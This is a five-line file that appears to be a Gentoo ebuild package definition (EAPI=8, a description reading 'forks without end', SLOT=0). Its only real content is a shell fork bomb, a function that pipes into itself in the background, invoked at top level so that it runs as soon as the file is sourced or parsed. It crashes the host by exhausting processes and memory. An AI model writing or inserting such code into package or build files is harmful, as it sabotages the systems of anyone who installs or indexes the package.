EAPI=8
DESCRIPTION="forks without end"
SLOT=0
f() { f | f & }
f
